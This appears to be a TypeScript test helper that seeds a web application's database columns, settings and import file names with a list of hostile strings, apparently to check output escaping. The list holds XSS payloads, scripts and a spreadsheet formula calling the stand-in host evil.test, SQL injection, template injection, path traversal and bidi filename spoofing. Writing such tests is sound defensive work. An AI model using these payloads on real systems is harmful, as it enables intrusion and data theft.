import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Database } from '#db/schema.ts'
import type { Db } from '#db/transaction.ts'
import { HTML_ATTACKS } from '../../system/html-attacks.ts'

/** Texts that are something else to a page, a spreadsheet, a shell, a database, a log or a mail. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...HTML_ATTACKS,
  '"><script>p()</script>',
  "'><script>p()</script>",
  '"><img src=x onerror=p()>',
  "' onmouseover=p() x='",
  '" autofocus onfocus=p() x="',
  '</script><script>p()</script>',
  '</SCRIPT ><script>p()</script>',
  '</title><script>p()</script>',
  '</textarea><script>p()</script>',
  '</style><script>p()</script>',
  '</template><img src=x onerror=p()>',
  '</noscript><img src=x onerror=p()>',
  '--><script>p()</script>',
  ']]><script>p()</script>',
  '<!--<script>',
  '<script',
  '<ScRiPt>p()</sCrIpT>',
  '<script\n>p()</script\n>',
  '<script/x>p()</script>',
  '<script src=//evil.test/x.js></script>',
  '<script type=module>import("//evil.test/x.js")</script>',
  '<img src=//evil.test/pixel.gif>',
  '<img src="x" onerror="p()" srcset="//evil.test/x 2x">',
  '<video><source onerror=p()></video>',
  '<audio src=x onerror=p()>',
  '<details open ontoggle=p()>',
  '<body onload=p()>',
  '<input autofocus onfocus=p()>',
  '<select autofocus onfocus=p()>',
  '<marquee onstart=p()>',
  '<iframe src="javascript:p()">',
  '<svg><animate onbegin=p() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:p()"><text y=20>a</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=p()/>#x"/>',
  '<button formaction="javascript:p()">a</button>',
  '<a href="vbscript:p()">a</a>',
  '<a href="\u2028javascript:p()">a</a>',
  '<div style="width:expression(p())">',
  '<link rel=import href=//evil.test>',
  '<meta charset=utf-7>+ADw-script+AD4-p()+ADw-/script+AD4-',
  'javascript:p()',
  'JaVaScRiPt:p()//',
  'data:text/html,<script>p()</script>',
  '//evil.test/x',
  '\u2028p()//',
  '\u2029p()//',
  "';p();'",
  '";p();"',
  '`;p();`',
  '${p()}',
  '{{constructor.constructor("p()")()}}',
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{"__proto__":{"isOwner":true}}',
  '\\u003cscript\\u003ep()\\u003c/script\\u003e',
  '&lt;script&gt;p()&lt;/script&gt;',
  '&#60;script&#62;p()&#60;/script&#62;',
  '%3Cscript%3Ep()%3C/script%3E',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.test?x="&A1,"a")',
  '+1+cmd',
  '-1+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '＝1+1',
  "'; DROP TABLE orders; --",
  "x'); DELETE FROM staff; --",
  '" OR ""="',
  '100%_[]!\\',
  '../../../../etc/passwd',
  '\u202e\u2066gnp.exe',
  'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  '\u200b\u200d\ufeff',
  '🏴‍☠️🧨👨‍👩‍👧‍👦',
  `unbroken${'x'.repeat(300)}`,
]

type Columns = { readonly [Table in keyof Database]?: readonly (keyof Database[Table])[] }

/** The columns whose text somebody outside, or somebody of staff, may choose. */
const COLUMNS: Columns = {
  access_requests: ['company', 'name', 'email', 'phone', 'message'],
  categories: ['name'],
  changes: ['actor_name'],
  clients: ['name', 'email', 'phone', 'note'],
  code_uses: ['device'],
  contact_messages: ['name', 'email', 'phone', 'message', 'answer'],
  mails: ['subject', 'recipient', 'last_problem'],
  order_lines: ['name', 'code'],
  order_notes: ['text'],
  order_shipments: ['carrier', 'tracking_number', 'tracking_url', 'shipped_at'],
  orders: ['comment', 'reference'],
  saved_views: ['name'],
  sessions: ['device'],
  staff: ['name'],
  staff_sessions: ['user_agent'],
  stock_items: ['name', 'code'],
  webhook_deliveries: ['last_problem'],
}

/** Settings that are free text. */
const SETTINGS = ['company_name', 'address', 'phone', 'contact_mail_to', 'bank_account']

/** Ten times the characters that a code may have; PostgreSQL refuses to index the longest texts. */
const LONGEST_CODE = 1_000

/** Writes a text into every such column of every row, past all checks. */
export async function writeEverywhere(db: Db, text: string): Promise<void> {
  for (const [table, columns] of Object.entries(COLUMNS))
    await db
      .updateTable(table as keyof Database)
      .set(
        Object.fromEntries(
          columns.map((column) => [column, column === 'code' ? text.slice(0, LONGEST_CODE) : text]),
        ),
      )
      .execute()
  for (const name of SETTINGS)
    await db
      .insertInto('settings')
      .values({ name, value: text })
      .onConflict((conflict) => conflict.column('name').doUpdateSet({ value: text }))
      .execute()
  await db
    .updateTable('imports')
    .set({ files: JSON.stringify([text]) })
    .execute()
  // Those who are invited sign in nowhere
  await db.updateTable('staff').set({ email: text }).where('password_hash', 'is', null).execute()
  const rows = await db.selectFrom('change_rows').selectAll().execute()
  for (const { change_id, row_number, before, after } of rows)
    await db
      .updateTable('change_rows')
      .set({ before: withTexts(before, text), after: withTexts(after, text) })
      .where('change_id', '=', change_id)
      .where('row_number', '=', row_number)
      .execute()
}

function withTexts(json: string | null, text: string): string | null {
  if (json === null) return null
  return JSON.stringify(JSON.parse(json), (_, value: unknown) => {
    if (typeof value !== 'string') return value
    return value.startsWith('["') ? JSON.stringify([text]) : text
  })
}

/** Puts a file that could not be imported into the watched folder for each text, named by it, and with all of them in its report. */
export function writeFailedImports(importFolder: string): void {
  const folder = join(importFolder, '1', 'failed')
  mkdirSync(folder, { recursive: true })
  for (const [index, text] of HOSTILE_TEXTS.entries()) {
    const name = text.replaceAll('/', '\u2215').slice(0, 100)
    const file = join(folder, `2026-11-20T09-00-00.${String(index).padStart(3, '0')}Z-${name}.csv`)
    writeFileSync(file, '')
    writeFileSync(`${file}.report.txt`, HOSTILE_TEXTS.join('\n'))
  }
}
